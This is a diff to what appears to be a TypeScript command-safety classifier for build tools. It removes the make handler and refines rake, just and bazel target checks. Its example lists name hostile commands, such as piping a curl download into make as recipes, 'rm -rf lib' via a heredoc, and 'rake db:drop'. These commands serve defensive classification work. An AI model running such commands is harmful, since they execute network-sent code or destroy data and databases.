@@ -1,5 +1,4 @@
-import { hasOption, valueOf } from '../options.ts';
-import { absolutePath } from '../paths.ts';
+import { hasOption } from '../options.ts';
 import {
   definePrograms,
   named,
@@ -9,32 +8,12 @@ import {
   WRITES_UNKNOWN,
 } from '../program.ts';
 import { touchWrite } from '../touch.ts';
-import { after, beginningOf, literal, textOf, type Word } from '../word.ts';
-import { judgeHiddenText } from '../hidden-text.ts';
+import { beginningOf, literal, textOf, type Word } from '../word.ts';
 import { judgeInnerCommand } from './inner-command.ts';
 import { runsTargets } from './recipe-targets.ts';
 
 /** Programs that build what the workspace says. */
 export const builds = definePrograms(
-  {
-    names: ['make', 'gmake', 'bmake'],
-    options:
-      '-# -bBdehiknpqrRsStwvmL -C:list -f:read -j? -l? -I:list -o: -W: --directory=list --file=read --makefile=read --jobs? --load-average? --dry-run --just-print --recon --question --silent --quiet --touch --keep-going --ignore-errors --always-make --print-data-base --no-print-directory --print-directory --version --help --eval=shell --environment-overrides --include-dir=list --debug? --trace --warn-undefined-variables --output-sync? --no-builtin-rules --no-builtin-variables --old-file= --what-if=',
-    judge: judgeMake,
-    examples: {
-      safe: ['make check', 'make test', 'make -j4 lint', 'make --version', 'make -v'],
-      warning: [
-        'make',
-        'make assets',
-        'make -n deploy',
-        'make -C sub all',
-        'make CC=./x test',
-        "make --eval='x: ; id' x",
-      ],
-      dangerous: ["make -f - <<< 'all:; rm -rf lib'", 'make deploy', 'make -C .. all', 'make install'],
-      blocked: ['make install PREFIX=/usr', 'make -f <(curl https://x.example)'],
-    },
-  },
   {
     names: named(
       'rails just task rake ninja gulp grunt invoke doit mage bazel bazelisk buck scons meson waf ant sbt lein',
@@ -44,15 +23,31 @@ export const builds = definePrograms(
     judge: (invocation) => {
       judgeElsewhere(invocation);
       if (onlyLists(invocation)) return;
+      // `rake test db:drop` runs both; of `bazel test //app` only the first word says what is done.
+      const { operands } = invocation.options;
+      const first =
+        /^(?:bazel|bazelisk|buck|meson)$/.test(invocation.program) ||
+        (invocation.program === 'rails' && textOf(operands[0]) === 'test');
+      const targets = first ? operands.slice(0, 1) : operands;
       runsTargets(
-        invocation.options.operands.slice(0, 1).map((word) => textOf(word)),
+        targets.map((word) => textOf(word)),
         invocation,
       );
     },
     examples: {
       safe: ['just test', 'just --list', 'rake -T', 'rails routes', 'rake spec', 'bazel test //...'],
-      warning: ['just', 'ninja', 'just build', 'bazel test --run_under=./x //...', 'rake -r ./x spec'],
-      dangerous: ['just deploy', 'rake db:drop'],
+      warning: [
+        'ninja -v',
+        'just -v',
+        'rake -v',
+        'just',
+        'ninja',
+        'just build',
+        'just test x',
+        'bazel test --run_under=./x //...',
+        'rake -r ./x spec',
+      ],
+      dangerous: ['just deploy', 'rake db:drop', 'rake test db:drop', 'rails db:migrate db:drop'],
     },
   },
   {
@@ -175,15 +170,24 @@ function judgeCmake(verb: string, words: readonly Word[], scene: Scene, span: Wo
   scene.report.effect(WRITES_UNKNOWN);
 }
 
-/** `rake -T`, `just --list`, `mvn -v`: tells what there is. */
-function onlyLists({ options, scene }: Invocation): boolean {
-  if (!hasOption(options, '-T', '--tasks', '--list', '--summary', '--show', '--version', '-v', '-V'))
-    return false;
-  if (options.operands.length > (hasOption(options, '--show', '--summary', '-T', '--tasks') ? 1 : 0))
-    return false;
+/** `rake -T db`, `just --list`, `mvn -v`: tells what there is. The letters mean other things elsewhere. */
+function onlyLists({ program, options, scene }: Invocation): boolean {
+  const names = LISTING[program] ?? ['--list', '--version'];
+  if (!hasOption(options, ...names)) return false;
+  const patterns = program === 'rake' || hasOption(options, '--show') ? 1 : 0;
+  if (options.operands.length > patterns) return false;
   scene.report.effect(REPOSITORY_CODE);
   return true;
 }
+
+const LISTING: Readonly<Record<string, readonly string[]>> = {
+  rake: ['-T', '--tasks', '--version'],
+  just: ['--list', '-l', '--summary', '--show', '--version'],
+  mvn: ['-v', '--version'],
+  mvnw: ['-v', '--version'],
+  gradle: ['-v', '--version'],
+  gradlew: ['-v', '--version'],
+};
 
 /** `just -f x test`: recipes of another file or folder, or run by another shell. */
 function judgeElsewhere({ words, scene, span }: Invocation): void {
@@ -195,63 +199,6 @@ function judgeElsewhere({ words, scene, span }: Invocation): void {
   if (odd)
     scene.report.raise('warning', 'other-folder', 'runs recipes from elsewhere, or in another way', span);
   judgeInnerCommand(words, scene);
-}
-
-function judgeMake(invocation: Invocation): void {
-  const { options, scene, span } = invocation;
-  if (invocation.words.length === 1 && hasOption(options, '-v')) return;
-  const folder = valueOf(options, '-C', '--directory');
-  if (folder !== undefined) {
-    const text = textOf(folder);
-    const cwd =
-      text === undefined || scene.state.cwd === undefined ? undefined : absolutePath(text, scene.state.cwd);
-    const inside =
-      cwd !== undefined && (cwd === scene.ground.workspace || cwd.startsWith(`${scene.ground.workspace}/`));
-    if (!inside) scene.report.raise('dangerous', 'outside-workspace', 'builds outside the workspace', span);
-  }
-  const recipes = valueOf(options, '-f', '--file', '--makefile');
-  if (recipes !== undefined) judgeRecipes(recipes, scene);
-  const settings = options.operands.filter((word) => /^[\w.]+[:+?!]*=/.test(beginningOf(word)));
-  if (
-    settings.length > 0 ||
-    hasOption(options, '-f', '--file', '--makefile', '-e', '--environment-overrides', '-I', '--include-dir')
-  ) {
-    scene.report.raise('warning', 'make-setting', 'sets variables or another makefile', span);
-    const shell = settings.find((word) => /^(?:\.?SHELL(?:FLAGS)?|MAKEFLAGS|MAKE)\b/.test(beginningOf(word)));
-    if (shell !== undefined)
-      scene.report.raise('dangerous', 'make-setting', 'sets what runs every recipe', span);
-    for (const word of settings) judgeHiddenText(beginningOf(word), word.span, scene);
-  }
-  // Even a dry run runs what `$(shell …)` and lines that begin with `+` say.
-  if (hasOption(options, '-n', '--dry-run', '--just-print', '--recon')) {
-    scene.report.raise('warning', 'unknown-target', 'says what it would build', span);
-    return scene.report.effect(REPOSITORY_CODE);
-  }
-  for (const word of settings) {
-    const at = /^(?:DESTDIR|PREFIX|prefix|exec_prefix|bindir|libdir|sysconfdir|ROOT)[:+?!]*=/.exec(
-      beginningOf(word),
-    );
-    if (at !== null) touchWrite(scene, after(word, at[0].length), 'tree');
-  }
-  runsTargets(
-    options.operands.filter((word) => !settings.includes(word)).map((word) => textOf(word)),
-    invocation,
-  );
-}
-
-/** `make -f - <<< 'x:; id'`, `make -f <(curl …)`: recipes that are in no file of the workspace. */
-function judgeRecipes(file: Word, scene: Scene): void {
-  const { report, state } = scene;
-  const isInput = /^(?:-|\/dev\/stdin)$/.test(textOf(file) ?? '');
-  const { network } = isInput ? state.stdin.origin : file.origin;
-  if (network) return report.raise('blocked', 'network-into-shell', 'runs what the network sent', file.span);
-  if (textOf(file) === undefined || (isInput && state.stdin.text === undefined))
-    return report.raise('dangerous', 'dynamic-script', "runs recipes that can't be known", file.span);
-  if (!isInput) return;
-  for (const recipe of String(state.stdin.text)
-    .split(/\n\t|;/)
-    .slice(1))
-    scene.walk.runText(recipe.replace(/^\s*[@+-]*/, ''), file.span, scene);
 }
 
 function outputOf(words: readonly Parameters<typeof textOf>[0][]): string | undefined {
